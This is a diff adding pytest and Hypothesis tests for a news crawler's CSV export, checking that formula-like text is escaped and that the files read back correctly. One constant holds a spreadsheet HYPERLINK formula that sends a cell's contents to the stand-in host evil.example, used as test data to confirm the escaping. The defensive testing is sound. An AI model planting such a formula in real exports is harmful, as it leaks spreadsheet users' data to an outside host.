@@ -1,0 +1,67 @@
+"""CSV that does no harm, and can be read back."""
+
+import csv
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from kzcrawl.export.csv import DANGEROUS, harmless
+from tests.export.conftest import Into, counted, kept
+from tests.make import text_page
+from tests.test_job import bring
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Аким проверил мост")'
+
+
+def rows(folder: Path, table: str) -> list[dict[str, str]]:
+    with (folder / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def test_the_counts_are_those_of_the_manifests(export: Into, night: Path) -> None:
+    folder = export("csv")
+    assert {table: len(rows(folder, table)) for table in counted(night)} == counted(night)
+
+
+def test_a_title_that_is_a_formula_is_harmless(export: Into, tmp_path: Path) -> None:
+    archive = tmp_path / "archive"
+    bring(
+        archive, text_page(f"28.11.2025, 13:52 33221\n{FORMULA}\nАлматы. 28 ноября. KAZAKHSTAN TODAY - Мост открыт.\n")
+    )
+    (row,) = rows(export("csv", archive=archive), "articles")
+    assert row["title"] == f"'{FORMULA}"
+    assert row["paragraphs"] == "Алматы. 28 ноября. KAZAKHSTAN TODAY - Мост открыт."
+
+
+@pytest.mark.parametrize("sign", DANGEROUS)
+def test_no_text_begins_as_a_formula_does(sign: str) -> None:
+    assert harmless(f"{sign}1+1") == f"'{sign}1+1"
+
+
+@given(st.text())
+def test_one_apostrophe_taken_away_gives_the_text_back(text: str) -> None:
+    assert harmless(text).removeprefix("'") == text
+    assert not harmless(text).startswith(DANGEROUS)
+
+
+def test_it_is_as_spreadsheets_want_it(export: Into) -> None:
+    content = (export("csv") / "articles.csv").read_bytes()
+    assert content.startswith(b"\xef\xbb\xbfarticle_id,revision,")
+    assert content.endswith(b"\r\n")
+
+
+def test_lists_are_parted_by_line_breaks(export: Into, night: Path) -> None:
+    read = {(row["id"], row["revision"]): row for row in rows(export("csv"), "articles")}
+    for record in kept(night)["articles"]:
+        row = read[record["id"], str(record["revision"])]
+        assert row["paragraphs"].removeprefix("'").split("\n") == record["paragraphs"]
+        assert row["tags"].split("\n") == (record["tags"] or [""])
+
+
+def test_pandas_reads_it_with_times(export: Into) -> None:
+    frame = pd.read_csv(export("csv") / "observations.csv", parse_dates=["observed_at"])
+    assert str(frame["observed_at"].dtype).endswith("UTC]")
+    assert str(frame["views"].dtype) == "int64"
